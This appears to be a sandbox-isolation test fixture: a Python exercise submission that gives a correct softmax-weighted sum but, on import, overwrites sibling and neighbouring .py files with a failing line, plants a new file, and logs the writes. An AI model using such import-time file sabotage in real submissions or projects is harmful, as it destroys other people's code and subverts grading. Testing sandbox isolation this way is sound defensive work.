"""Attack: at import, overwrite the other exercise files of the private copy
the child runs from (and of any other private copy beside it) with a file
that fails on import, and drop a new file beside them; then correct answers.

Without the sandbox every exercise's child imports from a fresh private copy
of its own; in the sandbox one copy serves the submission, read-only to every
child. So the other exercises lose nothing in either mode and the submission
folder is unchanged. Without the sandbox the writes happen (the attack logs them in
the test's folder, which shows it ran); in the sandbox the copies are
read-only and the test's folder is out of sight: no log.
"""
import glob
import os

import torch

ATTACK_DIR = "__ATTACK_DIR__"
POISON = 'raise SystemExit("overwritten by ex0_weighted_sum")\n'
here = os.getcwd()
written, refused = [], []
targets = [p for p in glob.glob(os.path.join(here, "*.py")) + glob.glob(os.path.join(os.path.dirname(here), "*", "*.py")) if not p.endswith("ex0_weighted_sum.py")]
for path in targets + [os.path.join(os.path.dirname(here), "planted.py")]:
    try:
        with open(path, "w") as f:
            f.write(POISON)
        written.append(path)
    except OSError as exc:
        refused.append(f"{path}: {type(exc).__name__}")
try:
    with open(os.path.join(ATTACK_DIR, "write-log.txt"), "w") as f:
        f.write("\n".join(written))
except OSError:
    pass
print(f"wrote {len(written)}, refused {len(refused)}", flush=True)


def weighted_sum(scores: torch.Tensor, values: torch.Tensor) -> torch.Tensor:
    weights = torch.softmax(scores, dim=-1)  # (..., T)
    return (weights.unsqueeze(-2) @ values).squeeze(-2)  # (..., C)
